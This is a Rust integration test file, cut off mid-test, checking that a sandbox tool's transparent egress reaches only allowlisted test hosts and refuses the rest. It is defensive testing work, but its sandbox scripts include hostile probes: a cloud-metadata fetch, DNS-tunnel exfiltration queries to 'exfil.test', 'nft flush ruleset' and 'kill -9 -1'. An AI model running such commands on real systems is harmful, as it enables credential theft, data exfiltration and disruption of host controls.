//! Transparent egress (issue 15, items 1, 2 and 5): programs that ignore
//! proxy variables (curl without them, Python sockets, Node's fetch, git)
//! reach allowlisted destinations through nanoclaw's redirect in the
//! sandbox's own network namespace, and the sandbox's DNS answers only
//! allowed names; everything else fails with the reason recorded in the
//! outcome.
//!
//! The destination is a test host in a network namespace this test makes
//! (a veth pair from the host's namespace, where nanoclaw's proxy runs;
//! addresses in 10.251.0.0/16 and fd42:251::/32, named by `--allow-cidr`
//! rules since private ranges are refused unless named). It serves HTTP
//! (with a git repository), HTTPS (a CA the test makes with openssl), a raw
//! TCP service, an unlisted TCP port and a UDP port, and logs every
//! connection it gets. No traffic leaves this machine.
//!
//! Root only (making the test host needs it); each scenario runs as root
//! and rootless (`nanotest`).

mod common;

use std::fs;
use std::process::{Child, Command, Stdio};
use std::time::{Duration, Instant};

use common::testnet::{sh, TestNet};
use common::*;
use serde_json::Value;

/// The test host's Python server: HTTP on 80 (files, including a git
/// repository served the "dumb" way), HTTPS on 443, a raw TCP service on
/// 7000 ("raw-hello <line>"), an unlisted service on 8080, UDP on 5353;
/// every TCP connection and UDP datagram is logged as `proto local_ip
/// local_port` to hits.log.
const SERVER: &str = r#"
import http.server, socket, socketserver, ssl, sys, threading, os
d = sys.argv[1]
log_lock = threading.Lock()
def hit(proto, sock_or_addr):
    with log_lock, open(os.path.join(d, "hits.log"), "a") as f:
        a = sock_or_addr
        f.write("%s %s %s\n" % (proto, a[0], a[1]))
class V6(socketserver.ThreadingMixIn, http.server.HTTPServer):
    address_family = socket.AF_INET6
    daemon_threads = True
    def server_bind(self):
        self.socket.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 0)
        self.socket.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        super().server_bind()
class H(http.server.SimpleHTTPRequestHandler):
    def __init__(self, *a, **k):
        super().__init__(*a, directory=os.path.join(d, "www"), **k)
    def log_message(self, *a):
        pass
def unmap(a):
    ip = a[0][7:] if a[0].startswith("::ffff:") else a[0]
    return (ip, a[1])
def setup(self):
    http.server.SimpleHTTPRequestHandler.setup(self)
    hit("tcp", unmap(self.connection.getsockname()))
H.setup = setup
http_srv = V6(("::", 80), H)
https_srv = V6(("::", 443), H)
ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
ctx.load_cert_chain(os.path.join(d, "srv.pem"), os.path.join(d, "srv.key"))
https_srv.socket = ctx.wrap_socket(https_srv.socket, server_side=True)
def listener(port):
    l = socket.socket(socket.AF_INET6)
    l.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 0)
    l.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    l.bind(("::", port)); l.listen(64)
    return l
def raw(l, greet):
    while True:
        c, _ = l.accept()
        hit("tcp", unmap(c.getsockname()))
        def serve(c=c):
            try:
                c.settimeout(5)
                line = c.recv(100)
                c.sendall(greet + line)
            except OSError:
                pass
            c.close()
        threading.Thread(target=serve, daemon=True).start()
u = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
u.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 0)
u.bind(("::", 5353))
def udp():
    while True:
        _, a = u.recvfrom(100)
        hit("udp", ("?", 5353))
# Every socket is bound and listening before `ready`.
raw_l, unlisted_l = listener(7000), listener(8080)
for t in [lambda: http_srv.serve_forever(), lambda: https_srv.serve_forever(),
          lambda: raw(raw_l, b"raw-hello "), lambda: raw(unlisted_l, b"unlisted "), udp]:
    threading.Thread(target=t, daemon=True).start()
open(os.path.join(d, "ready"), "w").close()
threading.Event().wait()
"#;

/// A test host ([`TestNet`]) with the server above. Removed (namespace,
/// veth, files, server) on drop.
struct TestHost {
    net: TestNet,
    /// The test host's allowed address (IPv4), and a second one nothing
    /// allows.
    v4: String,
    v4_other: String,
    /// The host's own end of the veth.
    host_v4: String,
    v6: String,
    /// The CA that signed the HTTPS server's certificate (PEM).
    ca_pem: String,
}

impl TestHost {
    /// `None` (after a SKIP line) when not root.
    fn start(test: &str) -> Option<TestHost> {
        let mut net = TestNet::new(test, "nceg")?;
        let n = net.n;
        let (v4, v4_other, host_v4) = (
            format!("10.251.{n}.2"),
            format!("10.251.{n}.3"),
            format!("10.251.{n}.1"),
        );
        let v6 = format!("fd42:251:{n:x}::2");
        net.host_addr(&format!("{host_v4}/29"));
        net.host_addr(&format!("fd42:251:{n:x}::1/64"));
        net.ns_addr(&format!("{v4}/29"));
        net.ns_addr(&format!("{v4_other}/29"));
        net.ns_addr(&format!("{v6}/64"));
        net.make_certs(
            "nanoclaw-egress-test-ca",
            &format!("DNS:web.test,IP:{v4},IP:{v4_other}"),
        );
        let d = net.dir.display();
        sh(&format!(
            "set -e; cd {d}; mkdir -p www
echo 'hello from testhost' > www/index.html
git init -q --bare www/repo.git
git init -q src && cd src && echo 'cloned over transparent egress' > README && git add README
git -c user.name=t -c user.email=t@t commit -qm init && git push -q ../www/repo.git HEAD:refs/heads/main
cd ../www/repo.git && git symbolic-ref HEAD refs/heads/main && git update-server-info"
        ));
        net.serve(SERVER, &[]);
        let ca_pem = net.ca_pem();
        Some(TestHost {
            net,
            v4,
            v4_other,
            host_v4,
            v6,
            ca_pem,
        })
    }

    /// The policy flags: web.test on 80, 443 and 7000 (names and explicit
    /// CIDR rules for its private addresses); priv.test is allowed by name
    /// but resolves to a private address no rule names.
    fn flags(&self) -> Vec<String> {
        let mut f = vec![
            "--network".into(),
            "allowlist".into(),
            "--allow-host".into(),
            "web.test".into(),
            "--allow-host".into(),
            "web.test:7000".into(),
            "--allow-host".into(),
            "priv.test".into(),
            "--add-host".into(),
            format!("web.test:{}", self.v4),
            "--add-host".into(),
            format!("web.test:[{}]", self.v6),
            "--add-host".into(),
            format!("priv.test:{}", self.v4_other),
        ];
        for port in [80, 443, 7000] {
            f.push("--allow-cidr".into());
            f.push(format!("{}/32:{port}", self.v4));
            f.push("--allow-cidr".into());
            f.push(format!("{}/128:{port}", self.v6));
        }
        f
    }

    /// Lines `proto local_ip local_port` of every connection the test host
    /// got.
    fn hits(&self) -> Vec<String> {
        fs::read_to_string(self.net.dir.join("hits.log"))
            .unwrap_or_default()
            .lines()
            .map(str::to_string)
            .collect()
    }
}

/// Unsets every proxy variable nanoclaw sets, then runs `body`.
fn no_proxy_script(host: &TestHost, body: &str) -> String {
    format!(
        "unset HTTP_PROXY HTTPS_PROXY ALL_PROXY NO_PROXY http_proxy https_proxy all_proxy no_proxy
cat > /tmp/ca.pem <<'EOF'
{}EOF
export HOME=/tmp
{body}",
        host.ca_pem
    )
}

fn run_json(mode: Mode, flags: &[String], script: &str) -> Value {
    let mut a: Vec<&str> = vec!["run", "--json", "--timeout", "60s"];
    a.extend(flags.iter().map(String::as_str));
    a.extend(["--", "sh", "-c", script]);
    let o = run(mode, &a);
    serde_json::from_str(text(&o.stdout).trim()).unwrap_or_else(|e| {
        panic!(
            "[{}] no JSON ({e}); exit {:?}; stdout {}; stderr {}",
            mode.name,
            o.status,
            text(&o.stdout),
            text(&o.stderr)
        )
    })
}

/// The value after `label:` on its own line of the output.
fn field<'a>(out: &'a str, label: &str) -> &'a str {
    out.lines()
        .find_map(|l| l.strip_prefix(label).and_then(|r| r.strip_prefix(':')))
        .unwrap_or("<missing>")
}

fn connections(v: &Value) -> Vec<Value> {
    v["network"]["connections"]
        .as_array()
        .cloned()
        .unwrap_or_default()
}

/// The refusal reason recorded for a transparent connection to
/// `address:port`.
fn refusal(v: &Value, address: &str, port: u16) -> Option<String> {
    connections(v)
        .iter()
        .find(|c| c["address"] == address && c["port"] == port && c["allowed"] == false)
        .and_then(|c| c["reason"].as_str().map(str::to_string))
}

fn node_available() -> bool {
    let ok = Command::new("node")
        .args(["-e", "process.exit(typeof fetch === 'function' ? 0 : 1)"])
        .status()
        .is_ok_and(|s| s.success());
    if !ok {
        assert!(
            std::env::var_os("CI").is_none(),
            "CI: node with a global fetch (18+) is required (.ci/run installs nodejs)"
        );
        eprintln!("SKIP (node part): no node with fetch on this machine");
    }
    ok
}

#[test]
fn programs_without_proxy_variables_reach_allowed_hosts() {
    let Some(host) = TestHost::start("programs_without_proxy_variables_reach_allowed_hosts") else {
        return;
    };
    let node = node_available();
    for mode in modes("programs_without_proxy_variables_reach_allowed_hosts") {
        let node_part = if node {
            "node -e 'fetch(\"http://web.test/\").then(r => r.text()).then(t => console.log(\"node:\" + t.trim()), e => console.log(\"node:ERR \" + e.cause))'
NODE_EXTRA_CA_CERTS=/tmp/ca.pem node -e 'fetch(\"https://web.test/\").then(r => r.text()).then(t => console.log(\"node-https:\" + t.trim()), e => console.log(\"node-https:ERR \" + e.cause))'"
        } else {
            ""
        };
        let script = no_proxy_script(
            &host,
            &format!(
                "env | grep -ci _proxy | sed 's/^/proxy-vars:/'
echo \"http:$(curl -s --max-time 10 http://web.test/)\"
echo \"https:$(curl -s --max-time 10 --cacert /tmp/ca.pem https://web.test/)\"
echo \"http6:$(curl -6 -s --max-time 10 http://web.test/)\"
python3 -c 'import socket; s = socket.create_connection((\"web.test\", 7000), timeout=10); s.sendall(b\"ping\\n\"); print(\"raw:\" + s.recv(100).decode().strip())'
git clone -q http://web.test/repo.git /tmp/repo 2>&1 | tail -2; echo \"git:$(cat /tmp/repo/README)\"
{node_part}"
            ),
        );
        let v = run_json(mode, &host.flags(), &script);
        let out = v["stdout"].as_str().unwrap_or("");
        let m = mode.name;
        assert_eq!(field(out, "proxy-vars"), "0", "[{m}] {v}");
        assert_eq!(field(out, "http"), "hello from testhost", "[{m}] {v}");
        assert_eq!(field(out, "https"), "hello from testhost", "[{m}] {v}");
        assert_eq!(field(out, "http6"), "hello from testhost", "[{m}] {v}");
        assert_eq!(field(out, "raw"), "raw-hello ping", "[{m}] {v}");
        assert_eq!(
            field(out, "git"),
            "cloned over transparent egress",
            "[{m}] {v}"
        );
        if node {
            assert_eq!(field(out, "node"), "hello from testhost", "[{m}] {v}");
            assert_eq!(field(out, "node-https"), "hello from testhost", "[{m}] {v}");
        }
        // Visibility: each allowed connection with its name, port and bytes.
        let conns = connections(&v);
        for (addr, port, source) in [
            (host.v4.as_str(), 80, "http_host"),
            (host.v4.as_str(), 443, "sni"),
            (host.v6.as_str(), 80, "http_host"),
            (host.v4.as_str(), 7000, "dns"),
        ] {
            assert!(
                conns.iter().any(|c| c["address"] == addr
                    && c["port"] == port
                    && c["allowed"] == true
                    && c["name"] == "web.test"
                    && c["name_source"] == source
                    && c["bytes_down"].as_u64().unwrap_or(0) > 0
                    && c["bytes_up"].as_u64().unwrap_or(0) > 0),
                "[{m}] no allowed record for {addr}:{port} named by {source}: {v}"
            );
        }
        let dns = v["network"]["dns"].as_array().cloned().unwrap_or_default();
        assert!(
            dns.iter().any(|q| q["name"] == "web.test"
                && q["qtype"] == "A"
                && q["rcode"] == "NOERROR"
                && q["answers"][0] == host.v4.as_str()),
            "[{m}] {v}"
        );
        assert!(
            dns.iter().any(|q| q["name"] == "web.test"
                && q["qtype"] == "AAAA"
                && q["answers"][0] == host.v6.as_str()),
            "[{m}] {v}"
        );
    }
}

#[test]
fn everything_else_is_refused_with_the_reason_recorded() {
    let Some(host) = TestHost::start("everything_else_is_refused_with_the_reason_recorded") else {
        return;
    };
    let primary = String::from_utf8_lossy(
        &Command::new("hostname")
            .arg("-I")
            .output()
            .expect("hostname -I")
            .stdout,
    )
    .split_whitespace()
    .next()
    .unwrap_or("192.0.2.2")
    .to_string();
    for mode in modes("everything_else_is_refused_with_the_reason_recorded") {
        let (other, hv4) = (&host.v4_other, &host.host_v4);
        let script = no_proxy_script(
            &host,
            &format!(
                r#"c() {{ curl -s -o /dev/null -w '%{{http_code}}' --max-time 10 "$@"; echo " exit=$?"; }}
echo "unlisted-name:$(c http://other.test/)"
echo "unlisted-name-pinned:$(c --resolve other.test:80:{v4} http://other.test/)"
echo "unlisted-port:$(c http://web.test:8080/)"
echo "host-veth:$(c http://{hv4}/)"
echo "host-primary:$(c http://{primary}/)"
echo "metadata:$(c http://169.254.169.254/latest/meta-data/)"
echo "ip-literal:$(c http://{other}/)"
echo "sni-elsewhere:$(c --cacert /tmp/ca.pem --resolve web.test:443:{other} https://web.test/)"
echo "host-elsewhere:$(c -H 'Host: web.test' http://{other}/)"
echo "private-name:$(c http://priv.test/)"
python3 - <<'PY'
import socket, struct, errno
def q(name, qtype, server):
    m = struct.pack(">HHHHHH", 0x4242, 0x0100, 1, 0, 0, 0)
    for l in name.split("."):
        m += bytes([len(l)]) + l.encode()
    m += b"\0" + struct.pack(">HH", qtype, 1)
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(5)
    s.sendto(m, (server, 53))
    r = s.recv(4096)
    return r[3] & 15, struct.unpack(">H", r[6:8])[0]
tunnel = "a" * 60 + "." + "b" * 60 + ".exfil.test"
print("txt-local:%d/%d" % q(tunnel, 16, "127.0.0.1"))
print("txt-public:%d/%d" % q(tunnel, 16, "8.8.8.8"))
print("txt-allowed:%d/%d" % q("web.test", 16, "127.0.0.1"))
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
try:
    u.sendto(b"x", ("{v4}", 5353)); print("udp:SENT")
except OSError as e:
    print("udp:" + errno.errorcode.get(e.errno, str(e.errno)))
u6 = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
try:
    u6.sendto(b"x", ("{v6}", 5353)); print("udp6:SENT")
except OSError as e:
    print("udp6:" + errno.errorcode.get(e.errno, str(e.errno)))
PY"#,
                v4 = host.v4,
                v6 = host.v6,
            ),
        );
        let v = run_json(mode, &host.flags(), &script);
        let out = v["stdout"].as_str().unwrap_or("");
        let m = mode.name;
        for label in [
            "unlisted-name",
            "unlisted-name-pinned",
            "unlisted-port",
            "host-veth",
            "host-primary",
            "metadata",
            "ip-literal",
            "sni-elsewhere",
            "host-elsewhere",
            "private-name",
        ] {
            assert!(
                field(out, label).starts_with("000 "),
                "[{m}] {label} was not refused: {v}"
            );
        }
        let want = [
            (host.v4.as_str(), 80, "host_not_allowed"),
            (host.v4.as_str(), 8080, "port_not_allowed"),
            (hv4.as_str(), 80, "special_address"),
            (primary.as_str(), 80, "special_address"),
            ("169.254.169.254", 80, "special_address"),
            (other.as_str(), 443, "name_address_mismatch"),
        ];
        for (addr, port, reason) in want {
            assert_eq!(
                refusal(&v, addr, port).as_deref(),
                Some(reason),
                "[{m}] {addr}:{port}: {v}"
            );
        }
        // Two refusals to the unnamed private address: the IP literal (no
        // name) and the request whose Host names web.test.
        let to_other: Vec<String> = connections(&v)
            .iter()
            .filter(|c| c["address"] == other.as_str() && c["port"] == 80)
            .map(|c| c["reason"].as_str().unwrap_or("").to_string())
            .collect();
        assert!(
            to_other.contains(&"special_address".to_string())
                && to_other.contains(&"name_address_mismatch".to_string()),
            "[{m}] {to_other:?} {v}"
        );
        // DNS: unlisted names NXDOMAIN (3), with no lookup made for them;
        // an allowed name's TXT is empty; a name resolving only to a
        // private address has no answer.
        assert_eq!(field(out, "txt-local"), "3/0", "[{m}] {v}");
        assert_eq!(field(out, "txt-public"), "3/0", "[{m}] {v}");
        assert_eq!(field(out, "txt-allowed"), "0/0", "[{m}] {v}");
        assert_eq!(field(out, "udp"), "EPERM", "[{m}] {v}");
        assert_eq!(field(out, "udp6"), "EPERM", "[{m}] {v}");
        let dns = v["network"]["dns"].as_array().cloned().unwrap_or_default();
        let tunnel_refused = dns
            .iter()
            .filter(|q| {
                q["name"]
                    .as_str()
                    .is_some_and(|n| n.ends_with(".exfil.test"))
                    && q["qtype"] == "TXT"
                    && q["rcode"] == "NXDOMAIN"
                    && q["reason"] == "host_not_allowed"
            })
            .count();
        assert_eq!(tunnel_refused, 2, "[{m}] {v}");
        assert!(
            dns.iter().any(|q| q["name"] == "other.test"
                && q["rcode"] == "NXDOMAIN"
                && q["reason"] == "host_not_allowed"),
            "[{m}] {v}"
        );
        assert!(
            dns.iter().any(|q| q["name"] == "priv.test"
                && q["qtype"] == "A"
                && q["answers"].as_array().is_some_and(|a| a.is_empty())
                && q["reason"] == "special_address"),
            "[{m}] {v}"
        );
        // Nothing refused reached the test host: no hit on the unlisted
        // port, the unnamed address, or UDP.
        let hits = host.hits();
        assert!(
            !hits.iter().any(|h| h.ends_with(" 8080")
                || h.contains(&format!(" {other} "))
                || h.starts_with("udp")),
            "[{m}] a refused connection reached the test host: {hits:?}"
        );
    }
}

#[test]
fn the_sandbox_cannot_widen_its_access() {
    let Some(host) = TestHost::start("the_sandbox_cannot_widen_its_access") else {
        return;
    };
    for mode in modes("the_sandbox_cannot_widen_its_access") {
        // The redirect rules and listeners are nanoclaw's, not the
        // sandbox's: it cannot change the rules, take the listeners' ports,
        // see or kill the process serving them, or use the listener
        // directly.
        let script = no_proxy_script(
            &host,
            &format!(
                r#"nft flush ruleset >/dev/null 2>&1; echo "nft-flush:$?"
nft list ruleset >/dev/null 2>&1; echo "nft-list:$?"
python3 - <<'PY'
import socket, errno
for port in (3129, 53):
    s = socket.socket()
    try:
        s.bind(("127.0.0.1", port)); print("bind-%d:BOUND" % port)
    except OSError as e:
        print("bind-%d:%s" % (port, errno.errorcode.get(e.errno, str(e.errno))))
try:
    s = socket.create_connection(("127.0.0.1", 3129), timeout=5)
    s.sendall(b"GET / HTTP/1.0\r\nHost: web.test\r\n\r\n")
    print("direct:" + (s.recv(100).decode() or "EOF"))
except OSError as e:
    print("direct:" + errno.errorcode.get(e.errno, str(e.errno)))
PY
echo "procs:$(ls /proc | grep -c '^[0-9]')"
kill -9 -1 2>/dev/null
echo "after-kill:$(curl -s -o /dev/null -w '%{{http_code}}' --max-time 10 http://{other}/)"
echo "still-allowed:$(curl -s --max-time 10 http://web.test/)""#,
                other = host.v4_other
            ),
        );
        let v = run_json(mode, &host.flags(), &script);
        let out = v["stdout"].as_str().unwrap_or("");
        let m = mode.name;
        assert_ne!(field(out, "nft-flush"), "0", "[{m}] {v}");
        assert_eq!(field(out, "bind-3129"), "EADDRINUSE", "[{m}] {v}");
        // Taken, or privileged (the sandbox has no capabilities).
        assert!(
            matches!(field(out, "bind-53"), "EADDRINUSE" | "EACCES"),
            "[{m}] {v}"
        );
        assert!(
            matches!(field(out, "direct"), "EOF" | "ECONNRESET" | "EPIPE"),
            "[{m}] {v}"
        );
        assert_eq!(field(out, "after-kill"), "000", "[{m}] {v}");
        assert_eq!(
            field(out, "still-allowed"),
            "hello from testhost",
            "[{m}] {v}"
        );
        let denials = v["network"]["denials"]
            .as_array()
            .cloned()
            .unwrap_or_default();
        assert!(
            denials
                .iter()
                .any(|d| d["reason"] == "invalid_destination" && d["protocol"] == "transparent"),
            "[{m}] the direct connection to the listener was not refused: {v}"
        );
    }
}

#[test]
fn long_lived_sandbox_uses_transparent_egress() {
    let Some(host) = TestHost::start("long_lived_sandbox_uses_transparent_egress") else {
        return;
    };
    for mode in modes("long_lived_sandbox_uses_transparent_egress") {
        let mut a: Vec<String> = vec!["sandbox".into(), "create".into()];
        a.extend(host.flags());
        let a: Vec<&str> = a.iter().map(String::as_str).collect();
        let o = run(mode, &a);
        assert_eq!(code(&o), 0, "[{}] {}", mode.name, text(&o.stderr));
        let id = text(&o.stdout).trim().to_string();
        let script = no_proxy_script(
            &host,
            "echo \"http:$(curl -s --max-time 10 http://web.test/)\"; echo \"refused:$(curl -s -o /dev/null -w '%{http_code}' --max-time 10 http://other.test/)\"",
        );
        let o = run(mode, &["exec", "--json", &id, "--", "sh", "-c", &script]);
        let v: Value = serde_json::from_str(text(&o.stdout).trim()).unwrap_or_default();
        let rm = run(mode, &["sandbox", "rm", &id]);
        assert_eq!(code(&rm), 0, "[{}] {}", mode.name, text(&rm.stderr));
        let out = v["stdout"].as_str().unwrap_or("");
        assert_eq!(
            field(out, "http"),
            "hello from testhost",
            "[{}] {v} {}",
            mode.name,
            text(&o.stderr)
        );
        assert_eq!(field(out, "refused"), "000", "[{}] {v}", mode.name);
        assert!(
            connections(&v)
                .iter()
                .any(|c| c["name"] == "web.test" && c["allowed"] == true),
            "[{}] {v}",
            mode.name
        );
    }
}

#[test]
fn bad_add_host_is_one_clear_error() {
    for mode in modes("bad_add_host_is_one_clear_error") {
        for (args, needle) in [
            (
                vec![
                    "run",
                    "--allow-host",
                    "a.test",
                    "--add-host",
                    "a.test",
                    "--",
                    "true",
                ],
                "expected NAME:IP",
            ),
            (
                vec![
                    "run",
                    "--allow-host",
                    "a.test",
                    "--add-host",
                    "a.test:nope",
                    "--",
                    "true",
                ],
                "not an IP address",
            ),
            (
                vec![
                    "run",
                    "--network",
                    "none",
                    "--add-host",
                    "a.test:10.0.0.1",
                    "--",
                    "true",
                ],
                "--add-host only works with --network allowlist",
            ),
        ] {
            let o = run(mode, &args);
            let err = text(&o.stderr);
            assert_eq!(code(&o), 125, "[{}] {args:?}: {err}", mode.name);
            assert!(err.contains(needle), "[{}] {args:?}: {err}", mode.name);
            assert_eq!(err.trim().lines().count(), 1, "[{}] {err}", mode.name);
        }
    }
}

// ---------------------------------------------------------------------
// Live policy updates (issue 15, item 4): `nanoclaw sandbox network ID`
// replaces the policy of a running sandbox.
// ---------------------------------------------------------------------

/// An echo service on the test host's port 7001 (every line sent back,
/// until the client closes): the long-lived stream a policy update must
/// cut. Killed on drop.
struct EchoService(Child);

impl EchoService {
    fn start(host: &TestHost) -> EchoService {
        let ready = host.net.dir.join("echo-ready");
        let script = format!(
            r#"
import socket, threading
l = socket.socket(socket.AF_INET6)
l.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 0)
l.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
l.bind(("::", 7001)); l.listen(16)
open("{}", "w").close()
def serve(c):
    try:
        while True:
            d = c.recv(100)
            if not d:
                break
            c.sendall(d)
    except OSError:
        pass
    c.close()
while True:
    c, _ = l.accept()
    threading.Thread(target=serve, args=(c,), daemon=True).start()
"#,
            ready.display()
        );
        let child = Command::new("ip")
            .args(["netns", "exec", &host.net.ns, "python3", "-c", &script])
            .stdout(Stdio::null())
            .spawn()
            .expect("start the echo service");
        let t0 = Instant::now();
        while !ready.exists() {
            assert!(
                t0.elapsed() < Duration::from_secs(10),
                "echo service did not start"
            );
            std::thread::sleep(Duration::from_millis(20));
        }
        EchoService(child)
    }
}

impl Drop for EchoService {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

/// A sandbox created for a test, removed on drop.
struct LiveSandbox {
    mode: Mode,
    id: String,
}

impl Drop for LiveSandbox {
    fn drop(&mut self) {
        let _ = run(self.mode, &["sandbox", "rm", "--force", &self.id]);
    }
}

/// The rules of the live tests: each `HOST[:PORT]` name rule, and a
/// `/32` CIDR rule for the test host's private address on the same port.
fn live_rules(host: &TestHost, rules: &[(&str, u16)]) -> Vec<String> {
    let mut f = Vec::new();
    for (name, port) in rules {
        f.push("--allow-host".into());
        f.push(format!("{name}:{port}"));
        f.push("--allow-cidr".into());
        f.push(format!("{}/32:{port}", host.v4));
    }
    f
}

/// `nanoclaw ARGS` as `mode`; stdout, after asserting exit 0.
fn ok_as(mode: Mode, args: &[String]) -> String {
    let a: Vec<&str> = args.iter().map(String::as_str).collect();
    let o = run(mode, &a);
    assert_eq!(
        code(&o),
        0,
        "[{}] {args:?}: {}{}",
        mode.name,
        text(&o.stdout),
        text(&o.stderr)
    );
    text(&o.stdout)
}

/// Runs `script` in the sandbox (without proxy variables); its stdout.
fn live_exec(sb: &LiveSandbox, host: &TestHost, script: &str) -> String {
    let script = no_proxy_script(host, script);
    let o = run(sb.mode, &["exec", &sb.id, "--", "sh", "-c", &script]);
    text(&o.stdout)
}

/// Probes from inside the sandbox: HTTP to web.test and late.test, a
/// new connection to the echo port, and what the sandbox's DNS answers
/// for late.test.
const LIVE_PROBES: &str = r#"c() { curl -s -o /dev/null -w '%{http_code}' --max-time 10 "$@"; echo " exit=$?"; }
echo "web:$(c http://web.test/)"
echo "late:$(c http://late.test/)"
echo "dns-late:$(python3 -c 'import socket; print(socket.gethostbyname("late.test"))' 2>/dev/null)"
python3 -c '
import socket
try:
    s = socket.create_connection(("web.test", 7001), timeout=5); s.sendall(b"x\n")
    print("echo-new:" + (s.recv(10).decode().strip() or "EOF"))
except OSError as e:
    print("echo-new:ERR %s" % e.__class__.__name__)
'"#;

/// The long-lived stream: connects to web.test:7001 and sends a line
/// every 100 ms, logging each echo; a reset or EOF ends it with a line.
const STREAM_CLIENT: &str = r#"cat > /tmp/stream.py <<'PY'
import socket, time, errno
log = open("/tmp/stream.log", "a", buffering=1)
s = socket.create_connection(("web.test", 7001), timeout=10)
n = 0
try:
    while True:
        s.sendall(b"tick %d\n" % n)
        r = s.recv(100)
        if not r:
            log.write("end:EOF\n"); break
        log.write("echo:" + r.decode().strip() + "\n")
        n += 1
        time.sleep(0.1)
except OSError as e:
    log.write("end:" + errno.errorcode.get(e.errno, str(e)) + "\n")
PY
python3 /tmp/stream.py </dev/null >/dev/null 2>&1 &
echo started"#;

fn stream_log(sb: &LiveSandbox, host: &TestHost) -> String {
    live_exec(sb, host, "cat /tmp/stream.log 2>/dev/null")
}

/// Waits until the stream's log satisfies `done`.
fn wait_stream(sb: &LiveSandbox, host: &TestHost, done: impl Fn(&str) -> bool) -> String {
    let t0 = Instant::now();
    loop {
        let log = stream_log(sb, host);
        if done(&log) || t0.elapsed() > Duration::from_secs(10) {
            return log;
        }
        std::thread::sleep(Duration::from_millis(100));
    }
}

#[test]
fn live_update_opens_and_closes_access_without_restarting() {
    let test = "live_update_opens_and_closes_access_without_restarting";
    let Some(host) = TestHost::start(test) else {
        return;
    };
    let _echo = EchoService::start(&host);
    for mode in modes(test) {
        let m = mode.name;
        let mut a: Vec<String> = vec!["sandbox".into(), "create".into()];
        a.extend(live_rules(&host, &[("web.test", 80), ("web.test", 7001)]));
        for name in ["web.test", "late.test"] {
            a.push("--add-host".into());
            a.push(format!("{name}:{}", host.v4));
        }
        let sb = LiveSandbox {
            mode,
            id: ok_as(mode, &a).trim().to_string(),
        };
        let inspect = |sb: &LiveSandbox| -> Value {
            serde_json::from_str(&ok_as(
                sb.mode,
                &["sandbox".into(), "inspect".into(), sb.id.clone()],
            ))
            .expect("inspect json")
        };
        let before = inspect(&sb);

        // Before: late.test is neither answered nor reachable.
        let out = live_exec(&sb, &host, LIVE_PROBES);
        assert_eq!(field(&out, "web"), "200 exit=0", "[{m}] {out}");
        assert!(field(&out, "late").starts_with("000 "), "[{m}] {out}");
        assert_eq!(field(&out, "dns-late"), "", "[{m}] {out}");
        assert_eq!(field(&out, "echo-new"), "x", "[{m}] {out}");

        // The long-lived stream, open before any update.
        assert!(live_exec(&sb, &host, STREAM_CLIENT).contains("started"));
        let log = wait_stream(&sb, &host, |l| l.contains("echo:tick 3"));
        assert!(
            log.contains("echo:tick 3"),
            "[{m}] stream did not start: {log}"
        );

        // Update 1 opens late.test (and keeps the rest): no restart.
        let mut up: Vec<String> = vec!["sandbox".into(), "network".into(), sb.id.clone()];
        up.extend(live_rules(
            &host,
            &[("web.test", 80), ("web.test", 7001), ("late.test", 80)],
        ));
        up.push("--json".into());
        let st: Value = serde_json::from_str(&ok_as(mode, &up)).expect("network json");
        assert_eq!(st["mode"], "allowlist", "[{m}] {st}");
        assert_eq!(st["update"]["closed"], serde_json::json!([]), "[{m}] {st}");
        let out = live_exec(&sb, &host, LIVE_PROBES);
        assert_eq!(field(&out, "late"), "200 exit=0", "[{m}] {out}");
        assert_eq!(field(&out, "dns-late"), host.v4, "[{m}] {out}");
        let ticks = |l: &str| l.matches("echo:").count();
        let seen = ticks(&stream_log(&sb, &host));
        let log = wait_stream(&sb, &host, |l| ticks(l) >= seen + 3 || l.contains("end:"));
        assert!(
            !log.contains("end:") && ticks(&log) >= seen + 3,
            "[{m}] the stream stopped after an update that kept its rule: {log}"
        );

        // Update 2 removes web.test:7001 and late.test: the open stream is
        // cut, new connections and DNS answers follow.
        let mut up: Vec<String> = vec!["sandbox".into(), "network".into(), sb.id.clone()];
        up.extend(live_rules(&host, &[("web.test", 80)]));
        up.push("--json".into());
        let st: Value = serde_json::from_str(&ok_as(mode, &up)).expect("network json");
        assert_eq!(
            st["update"]["closed"],
            serde_json::json!(["web.test:7001 (web.test:7001)"]),
            "[{m}] {st}"
        );
        let log = wait_stream(&sb, &host, |l| l.contains("end:"));
        assert!(
            ["end:ECONNRESET", "end:EPIPE", "end:EOF"]
                .iter()
                .any(|e| log.contains(e)),
            "[{m}] the open stream survived the removal of its rule: {log}"
        );
        let out = live_exec(&sb, &host, LIVE_PROBES);
        assert_eq!(field(&out, "web"), "200 exit=0", "[{m}] {out}");
        assert!(field(&out, "late").starts_with("000 "), "[{m}] {out}");
        assert_eq!(field(&out, "dns-late"), "", "[{m}] {out}");
        assert!(field(&out, "echo-new").starts_with("ERR"), "[{m}] {out}");

        // Visible: the cut connection, with its rule, in the keeper's report.
        let now = inspect(&sb);
        let denials = now["network"]["denials"]
            .as_array()
            .cloned()
            .unwrap_or_default();
        assert!(
            denials.iter().any(|d| d["reason"] == "rule_removed"
                && d["port"] == 7001
                && d["detail"].as_str().unwrap_or("").contains("web.test:7001")),
            "[{m}] {now}"
        );

        // Update 3: none refuses everything; the policy shows it.
        let o = ok_as(
            mode,
            &[
                "sandbox".into(),
                "network".into(),
                sb.id.clone(),
                "--network".into(),
                "none".into(),
            ],
        );
        assert!(o.starts_with("mode: none"), "[{m}] {o}");
        let out = live_exec(&sb, &host, LIVE_PROBES);
        assert!(field(&out, "web").starts_with("000 "), "[{m}] {out}");
        let shown = ok_as(mode, &["sandbox".into(), "network".into(), sb.id.clone()]);
        assert_eq!(shown.lines().next(), Some("mode: none"), "[{m}] {shown}");

